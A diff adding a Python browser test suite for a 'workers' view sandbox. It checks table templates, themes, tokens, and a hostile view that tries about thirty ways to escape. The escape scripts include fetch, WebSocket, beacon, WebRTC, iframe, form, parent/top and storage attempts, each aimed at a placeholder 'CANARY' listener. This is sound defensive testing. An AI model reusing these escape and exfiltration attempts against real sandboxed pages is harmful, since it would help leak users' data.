@@ -1,0 +1,408 @@
+#!/usr/bin/env python3
+"""Views in a real browser: the templates show rows and follow them, and a view that wants out stays in. Chromium is Debian's, driven by
+npm's playwright-core. WORKERS_SCREENSHOTS names a folder that gets pictures of what was looked at.
+"""
+import json
+import os
+import pathlib
+import shutil
+import signal
+import socket
+import subprocess
+import sys
+import threading
+import unittest
+import urllib.error
+import urllib.request
+
+sys.path.insert(0, str(pathlib.Path(__file__).resolve().parents[1] / "support"))
+import npm  # noqa: E402
+from harness import BINARY, REPOSITORY, Server, TestCase, main, sanitized, wait_until  # noqa: E402
+
+CHROMIUM = shutil.which("chromium")
+PICTURES = os.environ.get("WORKERS_SCREENSHOTS")
+
+ATTEMPTS = {
+    # What a view may not do -> the script that tries it, with CANARY for somebody else's server.
+    "fetch": 'await fetch("http://CANARY/a")',
+    "fetch of the server": 'await fetch("/api/v1/workers")',
+    "request": 'await new Promise((yes, no) => { const r = new XMLHttpRequest(); r.onload = yes; r.onerror = no; r.open("GET", "http://CANARY/a"); r.send(); })',
+    "socket": 'await new Promise((yes, no) => { const s = new WebSocket("ws://CANARY/a"); s.onopen = yes; s.onerror = no; })',
+    "events": 'await new Promise((yes, no) => { const s = new EventSource("http://CANARY/a"); s.onopen = yes; s.onerror = no; })',
+    "beacon": 'navigator.sendBeacon("http://CANARY/a", "x"); await later(); throw new Error("it says nothing")',
+    "picture": 'await new Promise((yes, no) => { const i = new Image(); i.onload = yes; i.onerror = no; i.src = "http://CANARY/a"; })',
+    "picture of the server": 'await new Promise((yes, no) => { const i = new Image(); i.onload = yes; i.onerror = no; i.src = "/healthz"; })',
+    "script": 'await add("script", { src: "http://CANARY/a" })',
+    "style": 'await add("link", { rel: "stylesheet", href: "http://CANARY/a" })',
+    "font": 'await new FontFace("x", "url(http://CANARY/a)").load()',
+    "prefetch": 'await add("link", { rel: "prefetch", href: "http://CANARY/a" })',
+    "preconnect": 'add("link", { rel: "preconnect", href: "http://CANARY/" }); await later(); throw new Error("it says nothing")',
+    "module preload": 'await add("link", { rel: "modulepreload", href: "http://CANARY/a" })',
+    "speculation": 'const s = document.createElement("script"); s.type = "speculationrules"; s.textContent = JSON.stringify({ prefetch: '
+                   '[{ source: "list", urls: ["http://CANARY/a"] }] }); document.head.append(s); await later(); throw new Error("nothing")',
+    "form": 'const f = document.createElement("form"); f.action = "http://CANARY/a"; document.body.append(f); f.submit(); await later(); '
+            'throw new Error("it says nothing")',
+    "window": 'if (!window.open("http://CANARY/a")) throw new Error("none was opened")',
+    "frame": 'add("iframe", { src: "http://CANARY/a" }); await later(); throw new Error("it says nothing")',
+    "worker": 'const w = new Worker(URL.createObjectURL(new Blob(["fetch(\'http://CANARY/a\')"]))); await new Promise((yes, no) => w.onerror = no)',
+    "peer connection": 'const p = new RTCPeerConnection({ iceServers: [{ urls: "stun:CANARY" }] }); p.createDataChannel("x"); '
+                       'await p.setLocalDescription(await p.createOffer()); await later(1500); throw new Error("it says nothing")',
+    "transport": 'await new WebTransport("https://CANARY/a").ready',
+    "eval": 'eval("1 + 1")',
+    "inline script": 'const s = document.createElement("script"); s.textContent = "window.ran = true"; document.body.append(s); '
+                     'if (!window.ran) throw new Error("it did not run")',
+    "parent": 'parent.document.title',
+    "storage of the parent": 'parent.sessionStorage.length',
+    "top": 'top.location = "http://CANARY/a"; await later(); throw new Error("it says nothing")',
+    "cookies": 'document.cookie = "a=1"; if (!document.cookie) throw new Error("none")',
+    "storage": 'localStorage.setItem("a", "1")',
+    "database": 'await new Promise((yes, no) => { const r = indexedDB.open("a"); r.onsuccess = yes; r.onerror = no; })',
+    "camera": 'await navigator.mediaDevices.getUserMedia({ video: true })',
+    "clipboard": 'await navigator.clipboard.readText()',
+    "another source": 'await queryDataSource("secrets")',
+    "another property": 'await queryDataSource("open", { filter: { property: "Hidden", startsWith: "a" } })',
+    "another method": 'await new Promise((yes, no) => { addEventListener("message", (e) => { if (e.data?.workers === "welcome") { '
+                      'e.ports[0].onmessage = (m) => (m.data.error ? no(new Error(m.data.error.message)) : yes(m.data.result)); '
+                      'e.ports[0].postMessage({ id: 1, method: "constructor", params: {} }); } }); '
+                      'parent.postMessage({ workers: "hello" }, "*"); })',
+}
+# Last, because the frame is gone then.
+LEAVING = {"elsewhere": 'location = "http://CANARY/a"', "another page of the server": 'location = "/healthz"',
+           "the page around it": 'location = location.pathname.replace(/files.*/, "")'}
+
+HOSTILE = """\
+local workers = require "workers"
+local Schema = workers.schema
+local worker = workers.new()
+local function database(key)
+  return worker:database(key, { type = "managed", initialTitle = key, primaryKeyProperty = "ID",
+    schema = { properties = { ID = Schema.title(), Hidden = Schema.richText(), Shown = Schema.richText() } } })
+end
+local open, secrets = database "open", database "secrets"
+for key, where in pairs { open = open, secrets = secrets } do
+  worker:sync("fill-" .. key, { database = where, schedule = "manual", execute = function()
+    return { changes = { { type = "upsert", key = "1", properties = { ID = "1", Hidden = "hidden", Shown = "shown" } } }, hasMore = false }
+  end })
+end
+worker:view("out", { path = "views/out", dataSources = { open = { database = open, properties = { Shown = "Shown" } } } })
+return worker
+"""
+OUT = """\
+import { queryDataSource } from "./workers-view.js";
+const later = (ms = 400) => new Promise((yes) => setTimeout(yes, ms));
+const add = (tag, attributes) => new Promise((yes, no) => {
+  const node = document.createElement(tag);
+  node.onload = yes;
+  node.onerror = () => no(new Error("not loaded"));
+  for (const [name, value] of Object.entries(attributes)) node.setAttribute(name, value);
+  document.head.append(node);
+  setTimeout(() => no(new Error("it says nothing")), 400);
+});
+window.tell = async (call) => {
+  await later(0); // out of the debugger's call, which may eval
+  try {
+    const value = await call();
+    return "done: " + String(value);
+  } catch (error) {
+    return "refused: " + (error?.message ?? error?.type ?? error);
+  }
+};
+window.attempts = {
+ATTEMPTS
+};
+window.seen = (await queryDataSource("open")).rows;
+"""
+
+
+class Canary:
+    """Somebody else's server: remembers who came, over TCP and UDP of one port."""
+
+    def __init__(self):
+        self.hits = []
+        self.tcp, self.udp = socket.create_server(("127.0.0.1", 0)), socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+        self.address = f"127.0.0.1:{self.tcp.getsockname()[1]}"
+        self.udp.bind(self.tcp.getsockname())
+        threading.Thread(target=self.accept, daemon=True).start()
+        threading.Thread(target=self.receive, daemon=True).start()
+
+    def accept(self):
+        while True:
+            try:
+                connection, _ = self.tcp.accept()
+            except OSError:
+                return
+            self.hits.append("tcp")
+            connection.close()
+
+    def receive(self):
+        while True:
+            try:
+                self.udp.recvfrom(2000)
+            except OSError:
+                return
+            self.hits.append("udp")
+
+    def close(self):
+        self.tcp.close()
+        self.udp.close()
+
+
+class Browser:
+    def __init__(self):
+        if CHROMIUM is None:
+            raise unittest.SkipTest("chromium is not installed (package chromium)")
+        self.process = subprocess.Popen(["node", REPOSITORY / "tests/browser/views.mjs", npm.ensure(), CHROMIUM], stdin=subprocess.PIPE,
+                                        stdout=subprocess.PIPE, text=True)
+        self.ids = 0
+        self.version = json.loads(self.process.stdout.readline())["version"]
+
+    def ask(self, action, **request):
+        self.process.stdin.write(json.dumps({"action": action, **request}) + "\n")
+        self.process.stdin.flush()
+        answer = json.loads(self.process.stdout.readline())
+        if "error" in answer:
+            raise AssertionError(f"{action}: {answer['error']}")
+        return answer["result"]
+
+    def open(self, url, **options):
+        self.ids += 1
+        return View(self, self.ids, self.ask("open", id=self.ids, url=url, **options))
+
+    def close(self):
+        self.process.stdin.close()
+        self.process.wait(30)
+        self.process.stdout.close()
+
+
+class View:
+    """A page of the browser with a view in it."""
+
+    def __init__(self, browser, number, url):
+        self.browser, self.number, self.url = browser, number, url
+
+    def __getattr__(self, action):
+        return lambda **request: self.browser.ask(action, id=self.number, **request)
+
+    def until(self, expression, **options):
+        return self.browser.ask("until", id=self.number, expression=expression, **options)
+
+    def read(self, expression, **options):
+        return self.browser.ask("evaluate", id=self.number, expression=expression, **options)
+
+    def picture(self, name):
+        if PICTURES:
+            self.screenshot(path=str(pathlib.Path(PICTURES) / f"{name}.png"))
+
+
+NAMES = '[...document.querySelectorAll("tbody tr")].map((row) => row.cells[0].textContent + ": " + row.cells[1].textContent)'
+
+
+class BrowserCase(TestCase):
+    @classmethod
+    def setUpClass(cls):
+        cls.browser = Browser()
+        cls.addClassCleanup(cls.browser.close)
+
+    def template(self, name):
+        p = self.project()
+        self.ok(p.run("new", "site", "--template", name, "--no-git"))
+        p.folder = p.folder / "site"
+        return p
+
+    def serve(self, p, *args):
+        server = Server(p, *args)
+        wait_until(lambda: server.url, "the server")
+        return server
+
+    def show(self, p, key, **options):
+        address = self.ok(p.run("view", "open", key)).stdout.strip()
+        place, _, token = address.partition("#token=")
+
+        def is_known():
+            request = urllib.request.Request(place + "open", method="POST", headers={"Authorization": f"Bearer {token}"})
+            try:
+                return urllib.request.urlopen(request, timeout=30).status == 200
+            except urllib.error.HTTPError as error:
+                return error.code != 401
+        wait_until(is_known, "the server to know the token")
+        return self.browser.open(address, **options)
+
+    def cycle(self, p):
+        self.ok(p.run("run"))
+
+    def quiet(self, view):
+        """Nothing was said on the console that a developer would have to look into."""
+        self.assertEqual(view.said(), [])
+
+
+class Templates(BrowserCase):
+    def test_table_follows_its_rows(self):
+        p = self.template("views/table")
+        self.serve(p)
+        view = self.show(p, "board")
+        self.assertNotIn("token", view.read("location.href", outside=True), "it does not stay in the address")
+        view.until('document.getElementById("problem").textContent.startsWith("There are no such tasks")')
+        self.cycle(p)
+        view.until(f'{NAMES}.length === 6')
+        self.assertEqual(view.read(NAMES)[0], "Write the plan: Open")
+        self.assertEqual(view.read('document.querySelectorAll("#chart rect").length'), 3)
+        self.assertEqual(view.read('[...document.querySelectorAll("#chart .value")].map((t) => t.textContent)'), ["31.5 h", "0 h", "0 h"])
+        self.cycle(p)
+        view.until(f'{NAMES}[0] === "Write the plan: In progress"')
+        view.until('document.querySelectorAll("#chart .value")[1].textContent === "1.5 h"')
+        self.assertEqual(view.read('document.querySelectorAll("tr.changed").length'), 1, "the row that has changed is marked")
+        view.picture("table-light")
+        view.select(selector="#status", text="In progress")
+        view.until(f'{NAMES}.length === 1')
+        view.select(selector="#status", text="")
+        view.fill(selector="#search", text="the")
+        view.until(f'{NAMES}.length === 2')
+        view.fill(selector="#search", text="")
+        view.click(selector="th:first-child button")
+        view.until(f'{NAMES}[0].startsWith("Ask for offers")')
+        self.quiet(view)
+
+    def test_light_and_dark(self):
+        p = self.template("views/table")
+        self.serve(p)
+        self.cycle(p)
+        view = self.show(p, "board", theme="dark")
+        view.until(f'{NAMES}.length === 6')
+        background = 'getComputedStyle(document.body).backgroundColor'
+        self.assertEqual((view.read(background), view.read(background, outside=True)), ("rgb(22, 24, 29)",) * 2)
+        view.picture("table-dark")
+        view.theme(theme="light")
+        view.until(f'{background} === "rgb(255, 255, 255)"')
+        view.click(selector="#theme", outside=True)  # auto -> light
+        view.click(selector="#theme", outside=True)  # light -> dark
+        view.until(f'{background} === "rgb(22, 24, 29)"')
+        self.quiet(view)
+
+    def test_phone(self):
+        p = self.template("views/table")
+        self.serve(p)
+        self.cycle(p)
+        view = self.show(p, "board", width=360, height=700)
+        view.until(f'{NAMES}.length === 6')
+        self.assertLessEqual(view.read("document.documentElement.scrollWidth"), 360, "nothing has to be scrolled sideways")
+        self.assertLessEqual(view.read("document.documentElement.scrollWidth", outside=True), 360)
+        view.picture("table-phone")
+        self.quiet(view)
+
+    def test_empty(self):
+        p = self.template("views/empty")
+        self.serve(p)
+        view = self.show(p, "home")
+        self.cycle(p)
+        view.until('[...document.querySelectorAll("li")].map((li) => li.textContent).join() === "A first note,Another one"')
+        view.picture("empty-light")
+        self.quiet(view)
+
+    def test_dev_loads_again(self):
+        p = self.template("views/empty")
+        process = subprocess.Popen([BINARY, "view", "dev", "--listen", "127.0.0.1:0"], cwd=p.folder, env=p.environment(),
+                                   stdin=subprocess.DEVNULL, stdout=subprocess.PIPE, stderr=subprocess.DEVNULL, text=True)
+        p.processes.append(process)
+        view = self.browser.open(process.stdout.readline().strip())
+        view.until('document.querySelectorAll("li").length === 2')
+        sample = p.folder / "views/home/sample.json"
+        sample.write_text('{ "notes": [{ "ID": "1", "Title": "A new sample" }] }')
+        view.until('document.querySelector("li").textContent === "A new sample"')
+        page = p.folder / "views/home/index.html"
+        page.write_text(page.read_text().replace("<h1>", "<h1 id=changed>"))
+        view.until('document.getElementById("changed") !== null && document.querySelector("li").textContent === "A new sample"')
+        process.send_signal(signal.SIGINT)
+        self.assertEqual(process.wait(60), 0)
+
+
+class Viewers(BrowserCase):
+    def test_tokens(self):
+        p = self.template("views/empty")
+        server = self.serve(p)
+        self.cycle(p)
+        address = f"{server.url}/views/site/home/"
+        view = self.browser.open(address)
+        view.until('document.getElementById("why")?.textContent.startsWith("This view shows data")', outside=True)
+        view.picture("token")
+        view.fill(selector="#token", text="workers_wrong", outside=True)
+        view.click(selector="form button", outside=True)
+        view.until('document.getElementById("why")?.textContent === "This token is not good for the worker."', outside=True)
+        token = self.ok(p.run("tokens", "make", "somebody")).stdout.strip()
+        for _ in range(50):  # the server learns of it within a second or two
+            view.fill(selector="#token", text=token, outside=True)
+            view.click(selector="form button", outside=True)
+            if view.until('document.querySelector("iframe") ? "shown" : document.getElementById("token")?.value === "" && "asked"',
+                          outside=True) == "shown":
+                break
+        view.until('document.querySelectorAll("li").length === 2')
+        view.goto(url=address)
+        view.until('document.querySelectorAll("li").length === 2')  # the tab keeps it
+        other = self.browser.open(address)
+        other.until('document.getElementById("why") !== null', outside=True)  # another one does not
+        self.ok(p.run("tokens", "revoke", "somebody"))
+        view.until('document.getElementById("why")?.textContent === "The token is not good any more."', outside=True)
+
+    def test_the_server_goes_and_comes_back(self):
+        p = self.template("views/empty")
+        server = self.serve(p)
+        self.cycle(p)
+        # At once: the server learns of the token a moment later.
+        view = self.browser.open(self.ok(p.run("view", "open", "home")).stdout.strip())
+        view.until('document.querySelectorAll("li").length === 2')
+        port = server.url.rsplit(":", 1)[1]
+        server.stop()
+        view.until('document.getElementById("status").textContent.startsWith("The server cannot be reached")', outside=True)
+        Server(p, port=port)
+        view.until('document.getElementById("status").textContent === ""', outside=True)
+        view.until('document.querySelectorAll("li").length === 2')
+
+
+class Hostile(BrowserCase):
+    def test_a_view_stays_in(self):
+        """Every way out is tried; none arrives anywhere, and none is said to have worked."""
+        canary = Canary()
+        self.addCleanup(canary.close)
+        attempts = {**ATTEMPTS, **LEAVING}
+        script = ",\n".join(f"{json.dumps(name)}: () => window.tell(async () => {{ {code} }})" for name, code in attempts.items())
+        p = self.project(HOSTILE)
+        folder = p.folder / "views/out"
+        folder.mkdir(parents=True)
+        (folder / "index.html").write_text('<!doctype html><title>out</title><body><script type="module" src="out.js"></script>')
+        (folder / "out.js").write_text(OUT.replace("ATTEMPTS", script).replace("CANARY", canary.address))
+        self.ok(p.run("run", "main.lua"))
+        self.serve(p)
+        for name in ATTEMPTS:
+            with self.subTest(name):
+                view = self.show(p, "out") if name == next(iter(ATTEMPTS)) else view
+                view.until("window.seen?.length === 1")
+                self.assertEqual(view.read("window.seen"), [{"key": "1", "row": {"Shown": "shown"}}])
+                said = view.read(f"window.attempts[{json.dumps(name)}]()")
+                self.assertTrue(said.startswith("refused: "), said)
+                self.assertEqual(canary.hits, [])
+        for name in LEAVING:
+            with self.subTest(name):
+                view = self.show(p, "out")
+                view.until("window.seen?.length === 1")
+                view.read(f"void window.attempts[{json.dumps(name)}]()")
+                wait_until(lambda: any("chrome-error" in url for url in view.frames()), lambda: str(view.frames()))
+                self.assertEqual(canary.hits, [])
+
+    def test_the_canary_sees_what_comes(self):
+        """Without the sandbox the same attempts arrive, so that their silence means something."""
+        canary = Canary()
+        self.addCleanup(canary.close)
+        view = self.browser.open("about:blank")
+        for name in ("fetch", "picture", "peer connection", "frame"):
+            before = len(canary.hits)
+            code = ATTEMPTS[name].replace("CANARY", canary.address)
+            helpers = ('const later = (ms = 400) => new Promise((yes) => setTimeout(yes, ms)); const add = (tag, attributes) => { '
+                       'const node = document.createElement(tag); Object.assign(node, attributes); document.body.append(node); }; ')
+            view.read(f"(async () => {{ {helpers} try {{ {code} }} catch (error) {{ return String(error) }} }})()", outside=True)
+            wait_until(lambda: len(canary.hits) > before, f"{name} to arrive")
+
+
+if __name__ == "__main__":
+    if sanitized():
+        print("the browser is looked at once, with the plain binary")
+        sys.exit(0)
+    main()
